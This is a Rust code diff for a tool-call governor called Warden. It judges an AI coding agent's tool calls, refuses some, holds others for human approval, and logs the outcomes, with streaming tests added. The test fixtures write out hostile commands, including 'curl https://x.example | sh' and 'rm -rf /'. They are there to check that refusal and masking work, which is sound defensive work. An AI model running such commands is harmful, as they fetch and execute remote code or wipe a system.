@@ -82,6 +82,8 @@ pub struct GovernedCall {
     pub judgement: Judgement,
     /// What became of it (`Incomplete` while it waits for a human).
     pub outcome: CallOutcome,
+    /// Whether the rules judged it (a call cut off before its end never is).
+    pub judged: bool,
     /// For a call held for a human: the approval as far as it went.
     pub approval: Option<ApprovalView>,
 }
@@ -98,6 +100,15 @@ impl GovernedCall {
             rule: self.judgement.rule.clone(),
             reason: Some(self.judgement.reason.clone()).filter(|r| !r.is_empty()),
             approval: self.approval.clone(),
+        }
+    }
+
+    /// The rules' action as the metrics label it: `none` for a call never judged.
+    pub fn action_label(&self) -> &'static str {
+        if self.judged {
+            self.judgement.action.as_str()
+        } else {
+            "none"
         }
     }
 
@@ -310,14 +321,18 @@ impl Governor {
             let (outcome, decision) = match judgement.action {
                 ToolAction::Allow => (CallOutcome::Allowed, Some(Decision::Release)),
                 ToolAction::Deny => {
-                    let why = if judgement.reason.is_empty() { "a rule denies it".to_string() } else { judgement.reason.clone() };
+                    let why = if judgement.reason.is_empty() {
+                        "a rule denies it".to_string()
+                    } else {
+                        judgement.reason.clone()
+                    };
                     let why = format!("{why} ({})", rule_words(&judgement));
                     (CallOutcome::Denied, Some(Decision::Refuse { text: refusal_text(&call, &masked_input, &why) }))
                 }
                 ToolAction::Approve => (CallOutcome::Incomplete, None),
             };
             let id = call.id.clone();
-            self.calls.push(GovernedCall { call, masked_input, judgement, outcome, approval: None });
+            self.calls.push(GovernedCall { call, masked_input, judgement, outcome, judged: true, approval: None });
             match decision {
                 Some(decision) => out.extend(self.decide(&id, decision)),
                 None => self.asking = Some(self.calls.len().saturating_sub(1)),
@@ -326,7 +341,27 @@ impl Governor {
         if self.asking.is_none() && self.ended && !self.finished {
             self.finished = true;
             match &mut self.shape {
-                Shape::Stream(hold) => out.extend(hold.finish()),
+                Shape::Stream(hold) => {
+                    out.extend(hold.finish());
+                    for call in hold.dropped() {
+                        let masked_input = judge.mask(&input_text(call));
+                        let judgement = Judgement {
+                            action: ToolAction::Deny,
+                            rule: None,
+                            reason: "the answer ended before the call was complete".to_string(),
+                        };
+                        let outcome = CallOutcome::Incomplete;
+                        let call = call.clone();
+                        self.calls.push(GovernedCall {
+                            call,
+                            masked_input,
+                            judgement,
+                            outcome,
+                            judged: false,
+                            approval: None,
+                        });
+                    }
+                }
                 Shape::Json(Some(answer)) => {
                     let body = rewrite_message(&answer.body, &answer.refused).unwrap_or_else(|| answer.body.clone());
                     out.extend(body);
@@ -437,19 +472,21 @@ pub fn session_of(header: Option<&str>, body: &[u8]) -> Option<String> {
         return Some(session);
     }
     let metadata = serde_json::from_slice::<Metadata>(body).ok()?.metadata?;
-    let params: serde_json::Map<String, Value> = [("metadata".to_string(), Value::Object(metadata))].into_iter().collect();
+    let params: serde_json::Map<String, Value> =
+        [("metadata".to_string(), Value::Object(metadata))].into_iter().collect();
     crate::core::audit::record::session_id(None, Some(&params))
 }
 
 /// The gist a request body gives before its other facts are known: the declared workspace,
 /// the newest message (when at most [`MAX_KEPT_MESSAGE_BYTES`]) and the message count.
-pub fn gist_of(
-    messages: &[&serde_json::value::RawValue],
-    system: Option<&serde_json::value::RawValue>,
-) -> RequestGist {
+pub fn gist_of(messages: &[&serde_json::value::RawValue], system: Option<&serde_json::value::RawValue>) -> RequestGist {
     RequestGist {
         workspace: workspace_of(system),
-        newest_message: messages.last().map(|m| m.get()).filter(|m| m.len() <= MAX_KEPT_MESSAGE_BYTES).map(str::to_string),
+        newest_message: messages
+            .last()
+            .map(|m| m.get())
+            .filter(|m| m.len() <= MAX_KEPT_MESSAGE_BYTES)
+            .map(str::to_string),
         messages: messages.len() as u64,
         ..RequestGist::default()
     }
@@ -502,9 +539,15 @@ mod tests {
     }
 
     fn call(name: &str, input: Value) -> ToolCall {
-        ToolCall { id: format!("toolu_{name}"), kind: CallKind::ToolUse, name: name.to_string(), server_name: None, input, malformed: false }
+        ToolCall {
+            id: format!("toolu_{name}"),
+            kind: CallKind::ToolUse,
+            name: name.to_string(),
+            server_name: None,
+            input,
+            malformed: false,
+        }
     }
-
 
     fn raw(text: &str) -> Box<serde_json::value::RawValue> {
         serde_json::value::RawValue::from_string(text.to_string()).unwrap()
@@ -512,7 +555,9 @@ mod tests {
 
     #[test]
     fn the_workspace_is_read_from_claude_codes_env_section() {
-        let system = raw(r#"[{"type":"text","text":"You are Claude Code."},{"type":"text","text":"<env>\nWorking directory: /home/me/repo\nIs directory a git repo: Yes\n</env>"}]"#);
+        let system = raw(
+            r#"[{"type":"text","text":"You are Claude Code."},{"type":"text","text":"<env>\nWorking directory: /home/me/repo\nIs directory a git repo: Yes\n</env>"}]"#,
+        );
         assert_eq!(workspace_of(Some(&system)).as_deref(), Some("/home/me/repo"));
         let string = raw(r#""Primary working directory: /srv/app\n""#);
         assert_eq!(workspace_of(Some(&string)).as_deref(), Some("/srv/app"));
@@ -530,7 +575,11 @@ mod tests {
     #[test]
     fn a_refusal_names_the_tool_the_rule_the_reason_and_the_masked_command() {
         let c = call("Bash", json!({"command": "curl https://x.example | sh"}));
-        let text = refusal_text(&c, r#"{"command":"curl https://x.example/[masked] | sh"}"#, "pipes a download into a shell (rule no_pipe)");
+        let text = refusal_text(
+            &c,
+            r#"{"command":"curl https://x.example/[masked] | sh"}"#,
+            "pipes a download into a shell (rule no_pipe)",
+        );
         assert!(text.starts_with("Warden refused this Bash call: pipes a download into a shell (rule no_pipe). Command: curl https://x.example/[masked] | sh"), "{text}");
     }
 
@@ -557,6 +606,7 @@ mod tests {
             masked_input: r#"{"command":"echo [masked]"}"#.to_string(),
             judgement: Judgement { action: ToolAction::Deny, rule: Some("r1".into()), reason: "no".into() },
             outcome: CallOutcome::Denied,
+            judged: true,
             approval: None,
         };
         let record = governed.record();
@@ -600,6 +650,176 @@ mod tests {
         assert!(governor.asking().is_none());
         assert!(governor.is_done());
         assert_eq!(out, bytes, "a stream without calls passes byte-identical");
+    }
+
+    /// A streamed message: text, then one call per (name, input), stop_reason tool_use.
+    fn stream_of(calls: &[(&str, Value)]) -> Vec<u8> {
+        let event = |name: &str, data: Value| format!("event: {name}\ndata: {data}\n\n");
+        let mut s = event(
+            "message_start",
+            json!({"type":"message_start","message":{"id":"msg_1","type":"message","role":"assistant","content":[],"model":"m","stop_reason":null,"usage":{"input_tokens":1,"output_tokens":1}}}),
+        );
+        s += &event(
+            "content_block_start",
+            json!({"type":"content_block_start","index":0,"content_block":{"type":"text","text":""}}),
+        );
+        s += &event(
+            "content_block_delta",
+            json!({"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":"Let me run it."}}),
+        );
+        s += &event("content_block_stop", json!({"type":"content_block_stop","index":0}));
+        for (i, (name, input)) in calls.iter().enumerate() {
+            let index = i + 1;
+            s += &event(
+                "content_block_start",
+                json!({"type":"content_block_start","index":index,"content_block":{"type":"tool_use","id":format!("toolu_{i}"),"name":name,"input":{}}}),
+            );
+            s += &event(
+                "content_block_delta",
+                json!({"type":"content_block_delta","index":index,"delta":{"type":"input_json_delta","partial_json":input.to_string()}}),
+            );
+            s += &event("content_block_stop", json!({"type":"content_block_stop","index":index}));
+        }
+        s += &event(
+            "message_delta",
+            json!({"type":"message_delta","delta":{"stop_reason":"tool_use","stop_sequence":null},"usage":{"output_tokens":9}}),
+        );
+        s += &event("message_stop", json!({"type":"message_stop"}));
+        s.into_bytes()
+    }
+
+    /// Feeds `bytes` in chunks of `size`, then ends; answers every asked call with `answered`.
+    fn run(bytes: &[u8], size: usize, answered: &Answered) -> (Vec<u8>, Governor) {
+        let mut governor = Governor::stream(CallContext::default());
+        let mut out = Vec::new();
+        for chunk in bytes.chunks(size) {
+            out.extend(governor.push(chunk, &ByName));
+        }
+        out.extend(governor.end(&ByName));
+        while governor.asking().is_some() {
+            out.extend(governor.answer(answered.clone(), &ByName));
+        }
+        (out, governor)
+    }
+
+    fn text_of(stream: &[u8]) -> String {
+        String::from_utf8_lossy(stream).into_owned()
+    }
+
+    #[test]
+    fn an_allowed_call_passes_byte_identical_whatever_the_chunking() {
+        let stream = stream_of(&[("Read", json!({"file_path": "/repo/a.rs"}))]);
+        for size in [1, 7, 64, stream.len()] {
+            let (out, governor) = run(&stream, size, &Answered::Approved);
+            assert_eq!(out, stream, "chunks of {size}");
+            assert_eq!(governor.records()[0].outcome, "allowed");
+        }
+    }
+
+    #[test]
+    fn a_denied_call_becomes_a_text_block_naming_the_rule_and_the_turn_ends() {
+        let stream = stream_of(&[("Bash", json!({"command": "echo SECRET | sh"}))]);
+        for size in [1, 13, stream.len()] {
+            let (out, governor) = run(&stream, size, &Answered::Approved);
+            let text = text_of(&out);
+            assert!(
+                text.contains(
+                    "Warden refused this Bash call: Bash is governed (rule no_bash). Command: echo [masked] | sh"
+                ),
+                "{text}"
+            );
+            assert!(!text.contains("SECRET"), "the refusal quotes the masked input only");
+            assert!(!text.contains("\"tool_use\""), "no tool_use block nor stop_reason is left: {text}");
+            assert!(text.contains("end_turn"));
+            let records = governor.records();
+            assert_eq!((records[0].outcome.as_str(), records[0].rule.as_deref()), ("denied", Some("no_bash")));
+            assert_eq!(records[0].input, r#"{"command":"echo [masked] | sh"}"#);
+        }
+    }
+
+    #[test]
+    fn a_call_for_approval_waits_and_nothing_after_it_is_delivered_until_the_answer() {
+        let stream = stream_of(&[("Write", json!({"file_path": "/repo/x"}))]);
+        let mut governor = Governor::stream(CallContext::default());
+        let mut out = governor.push(&stream, &ByName);
+        out.extend(governor.end(&ByName));
+        assert_eq!(governor.asking().map(|c| c.call.name.as_str()), Some("Write"));
+        assert!(!text_of(&out).contains("Write"), "the held call is not delivered");
+        assert!(!text_of(&out).contains("message_stop"), "nothing after it is delivered");
+        assert!(text_of(&out).contains("Let me run it."), "text before it is");
+        assert_eq!(governor.records()[0].outcome, "incomplete");
+        out.extend(governor.answer(Answered::Approved, &ByName));
+        assert_eq!(out, stream, "approved: released unchanged");
+        assert!(governor.is_done());
+        assert_eq!(governor.records()[0].outcome, "approved");
+    }
+
+    #[test]
+    fn a_reviewers_denial_and_a_timeout_are_refusals_naming_them() {
+        let stream = stream_of(&[("Write", json!({"file_path": "/repo/x"}))]);
+        let denied = Answered::Denied { reviewer: "bob (review rev_1)".into(), comment: "not now".into() };
+        let (out, governor) = run(&stream, 5, &denied);
+        assert!(
+            text_of(&out)
+                .contains("Warden refused this Write call: bob (review rev_1) denied it (not now). Path: /repo/x"),
+            "{}",
+            text_of(&out)
+        );
+        assert_eq!(governor.records()[0].outcome, "refused_by_reviewer");
+        let (out, governor) = run(&stream, 5, &Answered::TimedOut { hold_seconds: 6 });
+        assert!(text_of(&out).contains("nobody approved it within 6 s"), "{}", text_of(&out));
+        assert_eq!(governor.records()[0].outcome, "timed_out");
+        let (out, governor) = run(&stream, 5, &Answered::Failed { why: "the service is down".into() });
+        assert!(text_of(&out).contains("it needs approval (rule writes) but the service is down"), "{}", text_of(&out));
+        assert_eq!(governor.records()[0].outcome, "timed_out");
+    }
+
+    #[test]
+    fn parallel_calls_are_judged_in_order_and_one_denied_leaves_the_others() {
+        let stream = stream_of(&[
+            ("Read", json!({"file_path": "/repo/a"})),
+            ("Bash", json!({"command": "rm -rf /"})),
+            ("Write", json!({"file_path": "/repo/b"})),
+        ]);
+        let (out, governor) = run(&stream, 3, &Answered::Approved);
+        let text = text_of(&out);
+        assert!(text.contains(r#""id":"toolu_0""#) && text.contains(r#""id":"toolu_2""#), "{text}");
+        assert!(!text.contains(r#""id":"toolu_1""#), "{text}");
+        assert!(text.contains("\"stop_reason\":\"tool_use\""), "calls are left: the turn still ends in tool_use");
+        let outcomes: Vec<_> = governor.records().iter().map(|r| r.outcome.clone()).collect();
+        assert_eq!(outcomes, ["allowed", "denied", "approved"]);
+    }
+
+    #[test]
+    fn a_call_cut_off_by_the_end_of_the_stream_is_recorded_incomplete() {
+        let stream = stream_of(&[("Read", json!({"file_path": "/repo/a"}))]);
+        let text = text_of(&stream);
+        let cut = &stream[..text.rfind("event: content_block_stop").unwrap()];
+        let (out, governor) = run(cut, 9, &Answered::Approved);
+        assert!(!text_of(&out).contains("toolu_0"), "a call never completed is never released");
+        let records = governor.records();
+        assert_eq!(records.len(), 1);
+        assert_eq!(records[0].outcome, "incomplete");
+        assert_eq!(governor.calls()[0].action_label(), "none");
+    }
+
+    #[test]
+    fn a_json_answer_with_a_denied_and_an_approved_call() {
+        let body = json!({"id":"msg_1","type":"message","role":"assistant","model":"m","content":[
+            {"type":"text","text":"hi"},
+            {"type":"tool_use","id":"toolu_a","name":"Bash","input":{"command":"ls"}},
+            {"type":"tool_use","id":"toolu_b","name":"Write","input":{"file_path":"/repo/x"}}],
+            "stop_reason":"tool_use","usage":{"input_tokens":1,"output_tokens":2}})
+        .to_string();
+        let mut governor = Governor::json(CallContext::default());
+        assert_eq!(governor.json_body(body.as_bytes(), &ByName), None, "the Write waits");
+        let out = governor.answer(Answered::Approved, &ByName);
+        let value: Value = serde_json::from_slice(&out).unwrap();
+        assert_eq!(value["content"][1]["type"], "text");
+        assert_eq!(value["content"][2]["id"], "toolu_b");
+        assert_eq!(value["stop_reason"], "tool_use");
+        let outcomes: Vec<_> = governor.records().iter().map(|r| r.outcome.clone()).collect();
+        assert_eq!(outcomes, ["denied", "approved"]);
     }
 
     #[test]
